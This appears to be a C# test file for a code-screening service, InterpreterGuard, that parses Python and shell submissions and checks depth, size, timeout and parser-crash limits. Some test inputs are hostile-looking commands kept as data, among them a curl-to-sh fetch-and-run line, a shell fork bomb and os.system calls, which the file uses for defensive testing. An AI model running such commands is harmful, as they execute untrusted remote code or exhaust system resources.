using System.Diagnostics;
using System.Globalization;
using System.Text;
using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;
using InterpreterGuard.Core.Submissions;

namespace InterpreterGuard.Screening.Tests;

/// <summary>Whatever is too deep, too large, too slow or broken is a fact, and the next submission is read as if nothing had been.</summary>
public sealed class BoundTests(ParserContainer parser)
{
    public static TheoryData<string, string, string> Deep => new()
    {
        { "python", "brackets", new string('(', 10_000) + new string(')', 10_000) },
        { "python", "open brackets", new string('[', 10_000) },
        { "python", "signs", new string('-', 10_000) + "1" },
        { "python", "sum", string.Join('+', Enumerable.Repeat("a", 20_000)) },
        { "python", "attributes", "a" + string.Concat(Enumerable.Repeat(".b", 20_000)) },
        { "python", "calls", "a" + string.Concat(Enumerable.Repeat("()", 20_000)) },
        { "python", "blocks", string.Concat(Enumerable.Range(0, 110).Select(depth => new string(' ', depth) + "if x:\n")) + new string(' ', 110) + "x" },
        { "python", "lambdas", string.Concat(Enumerable.Repeat("lambda: ", 5_000)) + "1" },
        { "shell", "substitutions", string.Concat(Enumerable.Repeat("$(", 5_000)) + "a" + new string(')', 5_000) },
        { "shell", "subshells", new string('(', 1) + string.Concat(Enumerable.Repeat(" (", 5_000)) + "a" + new string(')', 5_001) },
        { "shell", "pipes", string.Join('|', Enumerable.Repeat("a", 5_000)) },
        { "shell", "elifs", "if a; then b; " + string.Concat(Enumerable.Repeat("elif a; then b; ", 5_000)) + "fi" },
    };

    [Theory]
    [MemberData(nameof(Deep))]
    public async Task Deep_nesting_is_unreadable_and_harms_nobody(string language, string what, string code)
    {
        Assert.NotEmpty(what);
        var screener = Screening.Screener(parser);

        var report = await screener.ScreenAsync(new Language(language), code, TestContext.Current.CancellationToken);

        Assert.Equal("too_deep", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
        Assert.Contains("builtins.open(x)", (await screener.PythonAsync("open('x')")).Calls());
    }

    [Theory]
    [InlineData("python", "def f(:\n  pass", 1, 7)]
    [InlineData("python", "x = 1\n\ny = '", 3, 5)]
    [InlineData("python", "x = 'a\0b'", 1, 1)]
    [InlineData("shell", "true\nif true; then", 2, 10)]
    [InlineData("shell", "echo 'a", 1, 6)]
    public async Task A_text_that_does_not_parse_says_where(string language, string code, int line, int column)
    {
        var report = await Screening.Screener(parser).ScreenAsync(new Language(language), code, TestContext.Current.CancellationToken);

        var unreadable = Assert.Single(report.Facts.OfType<CodeUnreadable>());
        Assert.Equal("syntax", unreadable.Reason);
        Assert.Equal((line, column), (unreadable.Span.StartLine, unreadable.Span.StartColumn));
    }

    [Fact]
    public async Task A_line_of_one_mebibyte_is_read()
    {
        var code = $"x = '{new string('a', (1024 * 1024) - 32)}'\nopen('f')";

        var report = await Screening.Screener(parser).PythonAsync(code);

        Assert.Contains("builtins.open(f)", report.Calls());
        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
    }

    /// <summary>Beyond 256 KiB a text is read in two parts, cut after an empty line; each of these has something else around its middle.</summary>
    [Theory]
    [InlineData("pass\n\n", "pass\n\n")]
    [InlineData("pass\n\n", "'''\n\ndef f(): pass\n\n'''\n\n")]
    [InlineData("pass\n\n", "if x:\n    pass\n\nelse:\n    pass\n\n")]
    [InlineData("pass\n\n", "x = [1,\n\nx,\n\nx]\n\n")]
    [InlineData("#\n\n", "#\n\n")]
    [InlineData("\n", "\n")]
    [InlineData("pass # é\n", "pass # é\n")]
    public async Task A_large_text_means_what_a_small_one_means(string usual, string middle)
    {
        const int half = 200 * 1024;
        var usually = string.Concat(Enumerable.Repeat(usual, half / usual.Length));
        var code = $"import os\n\n{usually}{middle}{usually}os.system('id')\n";

        var report = await Screening.Screener(parser).PythonAsync(code);

        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
        Assert.Equal(code.Count(letter => letter == '\n'), report.Call("os.system").Span.StartLine);
    }

    /// <summary>What a magic or an indented text means is said by its first line, for all of it: such a text is not cut.</summary>
    [Theory]
    [InlineData("%%bash\n", "a=\"\"\" \"\ncurl -s http://192.0.2.1/x | sh\nb=\"\"\" #\"\n")]
    [InlineData("%%writefile a.txt\n", "import os; os.system('id')\n")]
    [InlineData("    x = 1\n", "y = '''\n    import os\n'''\n")]
    public async Task A_large_text_is_not_cut_where_its_beginning_speaks_for_its_end(string first, string middle)
    {
        var usually = string.Concat(Enumerable.Repeat("# " + new string('x', 97) + "\n", 1500));
        var (small, large) = (first + "\n" + middle, first + usually + "\n" + middle + usually);

        var screener = Screening.Screener(parser);
        var (one, other) = (await screener.PythonAsync(small), await screener.PythonAsync(large));

        Assert.Equal(one.Facts.OfType<CodeCall>().Select(call => call.Name), other.Facts.OfType<CodeCall>().Select(call => call.Name));
        Assert.Equal(one.Facts.OfType<CodeImport>().Select(import => import.Module), other.Facts.OfType<CodeImport>().Select(import => import.Module));
    }

    [Theory]
    [InlineData("x = 1 + \\\n\nx\n\n", 1)]
    [InlineData("x = (\n\n", 0)]
    [InlineData("@x\n\nx = 1\n\n", 2)]
    public async Task A_mistake_in_a_large_text_is_told_where_it_is(string mistake, int below)
    {
        var usually = string.Concat(Enumerable.Repeat("x = 1\n\n", 30_000));

        var report = await Screening.Screener(parser).PythonAsync(usually + mistake + usually);

        var unreadable = Assert.Single(report.Facts.OfType<CodeUnreadable>());
        Assert.Equal(("syntax", 60_001 + below), (unreadable.Reason, unreadable.Span.StartLine));
    }

    [Fact]
    public async Task A_text_over_the_bound_is_too_large()
    {
        var report = await Screening.Screener(parser).PythonAsync(new string('#', (1024 * 1024) + 1));

        Assert.Equal("too_large", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Fact]
    public async Task More_facts_than_the_bound_are_cut_and_said()
    {
        var code = string.Concat(Enumerable.Range(0, 400).Select(number => $"f.call{number}()\n"));

        var report = await Screening.Screener(parser, ("Screening:FactsMax", "100")).PythonAsync(code);

        Assert.Equal("too_large", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
        Assert.Equal(100, report.Facts.Count(fact => fact is CodeCall));
    }

    [Fact]
    public async Task Work_that_multiplies_stops_at_the_bound_of_steps()
    {
        var code = new StringBuilder();
        code.AppendLine("def f12(x):\n    f.call(x)");
        for (var depth = 11; depth >= 0; depth--)
            code.AppendLine(CultureInfo.InvariantCulture, $"def f{depth}(x):").AppendLine(string.Concat(Enumerable.Range(0, 16).Select(number => $"    f{depth + 1}(x + '{number}')\n")));
        code.AppendLine("f0('')");
        var started = Stopwatch.GetTimestamp();

        var report = await Screening.Screener(parser).PythonAsync(code.ToString());

        Assert.Equal("too_large", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
        Assert.True(Stopwatch.GetElapsedTime(started) < TimeSpan.FromSeconds(10));
    }

    [Fact]
    public async Task A_function_that_calls_itself_ends()
    {
        var report = await Screening.Screener(parser).PythonAsync("def f(n):\n    return f(n + 1) + g(n)\ndef g(n):\n    return f(n)\nf(0)\nopen('x')");

        Assert.Contains("builtins.open(x)", report.Calls());
    }

    [Fact]
    public async Task A_shell_function_that_calls_itself_ends()
    {
        var report = await Screening.Screener(parser).ShellAsync(":(){ :|:& };:\ncurl x");

        Assert.Contains("curl(x)", report.Calls());
    }

    [Fact]
    public async Task Without_a_parser_the_code_is_unreadable()
    {
        var report = await Screening.Screener(new NoParser()).PythonAsync("open('x')");

        Assert.Equal("unavailable", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Fact]
    public async Task A_parser_that_does_not_come_up_is_unavailable_and_not_slow()
    {
        var report = await Screening.Screener(new SlowParser(TimeSpan.FromMinutes(1)), ("Screening:ParserTimeMax", "00:00:00.200")).PythonAsync("open('x')");

        Assert.Equal("unavailable", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Fact]
    public async Task A_parser_that_never_answers_is_given_up()
    {
        var report = await Screening.Screener(new SilentParser(), ("Screening:ParserTimeMax", "00:00:00.200")).PythonAsync("open('x')");

        Assert.Equal("time_out", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Theory]
    [InlineData(new byte[] { 0xFF, 0xFF, 0xFF, 0xFF })]
    [InlineData(new byte[] { 2, 0, 0, 0, (byte)'{', (byte)'}' })]
    [InlineData(new byte[] { 6, 0, 0, 0, 2, 0, 0, 0, (byte)'{', (byte)'}' })]
    [InlineData(new byte[] { 6, 0, 0, 0, 200, 0, 0, 0, (byte)'{', (byte)'}' })]
    [InlineData(new byte[] { 6, 0, 0, 0, 2, 0, 0, 0, (byte)'[', (byte)'1' })]
    [InlineData(new byte[] { 0, 0, 0, 0 })]
    public async Task An_answer_that_breaks_the_wire_is_a_crash(byte[] answer)
    {
        var report = await Screening.Screener(new LyingParser(answer)).PythonAsync("open('x')");

        Assert.Equal("crashed", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Theory]
    [InlineData("[]")]
    [InlineData("[\"Module\",0,0,0,0,[[\"Expr\"]]]")]
    [InlineData("[\"Module\",0,0,0,0,[[\"Expr\",\"a\",0,0,0,[]]]]")]
    [InlineData("[\"Module\",0,0,0,0,7]")]
    [InlineData("{\"Type\":3}")]
    public async Task A_tree_that_no_parser_makes_is_a_crash(string tree)
    {
        var json = Encoding.UTF8.GetBytes($"{{\"shift\":0,\"tree\":{tree}}}");
        byte[] answer = [.. BitConverter.GetBytes(json.Length + 4), .. BitConverter.GetBytes(json.Length), .. json];

        var report = await Screening.Screener(new LyingParser(answer)).PythonAsync("open('x')");

        Assert.Equal("crashed", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Fact]
    public async Task A_reader_that_ended_between_two_texts_is_no_fault_of_the_next()
    {
        var screener = Screening.Screener(parser);
        var input = new ScreeningInput(Language.Shell, "rm -r here\n") { Owner = "same" };
        await screener.ScreenAsync(input, TestContext.Current.CancellationToken);

        await parser.KillReadersAsync();
        var report = await screener.ScreenAsync(input, TestContext.Current.CancellationToken);

        Assert.Equal(["rm(-r here)"], report.Calls());
        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
    }

    [Fact]
    public async Task A_parser_killed_over_and_over_never_makes_screening_throw()
    {
        var screener = Screening.Screener(parser);
        var code = string.Concat(Enumerable.Range(0, 3_000).Select(number => $"x{number} = f({number}, 'text')\n"));
        using var enough = new CancellationTokenSource();
        var killing = Task.Run(async () =>
        {
            while (!enough.IsCancellationRequested)
                await parser.KillChildrenAsync();
        }, TestContext.Current.CancellationToken);

        var reasons = new List<string>();
        for (var round = 0; round < 40; round++)
        {
            var report = await screener.PythonAsync(code);
            reasons.AddRange(report.Facts.OfType<CodeUnreadable>().Select(unreadable => unreadable.Reason));
        }
        await enough.CancelAsync();
        await killing;

        Assert.All(reasons, reason => Assert.True(reason is "crashed" or "unavailable", reason));
        Assert.DoesNotContain((await screener.PythonAsync(code)).Facts, fact => fact is CodeUnreadable);
    }

    [Fact]
    public async Task A_connection_that_ends_mid_answer_is_a_crash()
    {
        var report = await Screening.Screener(new LyingParser([200, 0, 0, 0, 1, 2, 3])).PythonAsync("open('x')");

        Assert.Equal("crashed", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Fact]
    public async Task The_callers_cancellation_is_thrown()
    {
        using var cancelled = new CancellationTokenSource();
        await cancelled.CancelAsync();

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => Screening.Screener(parser).ScreenAsync(Language.Python, "x", cancelled.Token));
    }

    [Fact]
    public async Task Many_submissions_at_once_are_all_read()
    {
        var screener = Screening.Screener(parser);

        var reports = await Task.WhenAll(Enumerable.Range(0, 64).Select(number => screener.PythonAsync($"open('file{number}')")));

        Assert.Equal(Enumerable.Range(0, 64).Select(number => $"builtins.open(file{number})"), reports.Select(report => Assert.Single(report.Calls())));
    }

    [Fact]
    public async Task Waiting_for_a_turn_is_not_held_against_the_code()
    {
        var screener = Screening.Screener(
            new SlowParser(TimeSpan.FromMilliseconds(300)), ("Screening:ParserRequestsMax", "1"), ("Screening:ParserTimeMax", "00:00:01"));

        var reports = await Task.WhenAll(Enumerable.Range(0, 6).Select(_ => screener.PythonAsync("")).ToList());

        Assert.All(reports, report => Assert.Empty(report.Facts.OfType<CodeUnreadable>()));
    }

    [Fact]
    public async Task A_turn_that_never_comes_is_given_up()
    {
        var screener = Screening.Screener(
            new SlowParser(TimeSpan.FromSeconds(2)), ("Screening:ParserRequestsMax", "1"), ("Screening:ParserWaitMax", "00:00:00.100"));

        var reports = await Task.WhenAll(screener.PythonAsync("x"), screener.PythonAsync("y"));

        Assert.Equal("unavailable", Assert.Single(reports.SelectMany(report => report.Facts.OfType<CodeUnreadable>())).Reason);
    }

    private sealed class SlowParser(TimeSpan pause) : IParserConnections
    {
        public async Task<Stream> ConnectAsync(CancellationToken cancellationToken)
        {
            await Task.Delay(pause, cancellationToken);
            var json = "{\"shift\":0,\"tree\":[\"Module\",0,0,0,0,[]]}"u8.ToArray();
            return new AnsweringStream([.. BitConverter.GetBytes(json.Length + 4), .. BitConverter.GetBytes(json.Length), .. json]);
        }
    }

    private sealed class NoParser : IParserConnections
    {
        public Task<Stream> ConnectAsync(CancellationToken cancellationToken) => throw new IOException("There is no parser.");
    }

    private sealed class SilentParser : IParserConnections
    {
        public Task<Stream> ConnectAsync(CancellationToken cancellationToken) => Task.FromResult<Stream>(new SilentStream());
    }

    private sealed class LyingParser(byte[] answer) : IParserConnections
    {
        public Task<Stream> ConnectAsync(CancellationToken cancellationToken) => Task.FromResult<Stream>(new AnsweringStream(answer));
    }
}
